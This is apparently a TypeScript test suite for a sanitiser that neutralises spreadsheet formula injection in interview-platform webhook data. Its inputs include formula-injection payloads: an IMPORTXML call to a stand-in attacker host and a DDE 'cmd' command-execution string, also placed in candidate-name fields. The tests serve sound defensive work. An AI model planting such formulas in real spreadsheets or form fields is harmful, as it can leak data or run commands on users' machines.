import fc from 'fast-check';

import { withoutFormulas } from '../../../nodes/shared/event/spreadsheet';
import { fixturesOf } from '../../fixtures';
import { changed, eventOf } from '../normalized';

/** The candidate's name in each vendor's body, and a delivery that has it. */
const NAMES = {
	hireflix: ['interview.create', 'data.candidate.name'],
	heymilo: ['interview_started', 'metadata.candidate_name'],
	jobmojito: ['interview_result', 'candidate_name'],
	interviewflowai: ['interview.completed', 'data.candidate.name'],
} as const;

describe('withoutFormulas', () => {
	it.each([
		['=IMPORTXML("https://attacker.example.com","//a")'],
		['=cmd|"/c calc"!A1'],
		['+4915112345678'],
		['-2+3'],
		['@SUM(1+1)'],
		['\t=1+1'],
		['\r=1+1'],
		['\n=1+1'],
		['＝1+1'],
		['＋1'],
		['－1'],
		['＠SUM(1)'],
		['- says what she did\n- listens'],
	])('puts an apostrophe before %j', (text) => {
		expect(withoutFormulas({ text })).toEqual({ text: `'${text}` });
	});

	it.each([['Ada Example'], ['ada@example.com'], ['1-2'], ['https://example.com/?a=1'], ["'=1"], ['']])(
		'leaves %j alone',
		(text) => {
			expect(withoutFormulas({ text })).toEqual({ text });
		},
	);

	it.each([[-5], [0], [true], [null]])('leaves %j alone, which is no text', (value) => {
		expect(withoutFormulas({ value })).toEqual({ value });
	});

	it('reaches the texts of details, and leaves raw as it was sent', () => {
		const item = {
			details: { questions: [{ text: '=1' }], tags: ['@x', 'ok'] },
			raw: { name: '=1', list: ['=2'] },
		};
		expect(withoutFormulas(item)).toEqual({
			details: { questions: [{ text: "'=1" }], tags: ["'@x", 'ok'] },
			raw: item.raw,
		});
	});

	it('lets no text begin like a formula, keeps every column, and tells what was there', () => {
		fc.assert(
			fc.property(fc.dictionary(fc.string(), fc.oneof(fc.string(), fc.integer(), fc.jsonValue())), (item) => {
				const { raw, ...columns } = item;
				const safe = withoutFormulas(item as never);
				expect(Object.keys(safe)).toHaveLength(Object.keys(item).length);
				expect(safe.raw).toBe(raw);
				for (const [name, value] of Object.entries(columns)) {
					const shown = safe[name];
					if (typeof value !== 'string') continue;
					expect(shown).not.toMatch(/^[=+\-@]/);
					expect([value, `'${value}`]).toContain(shown);
				}
			}),
			{ seed: 4 },
		);
	});

	it.each(Object.entries(NAMES))(
		'stops a candidate of %s from naming themselves a formula',
		(vendor, [name, path]) => {
			const formula = '=IMPORTXML("https://attacker.example.com","//a")';
			const [{ body }] = fixturesOf(vendor as keyof typeof NAMES).filter((one) => one.name === name);
			const event = eventOf(vendor as keyof typeof NAMES, changed(body, { [path]: formula }));
			expect(event.candidate_name).toBe(formula);
			const safe = withoutFormulas(event as never);
			expect(safe.candidate_name).toBe(`'${formula}`);
			expect(safe.raw).toBe(event.raw);
		},
	);
});
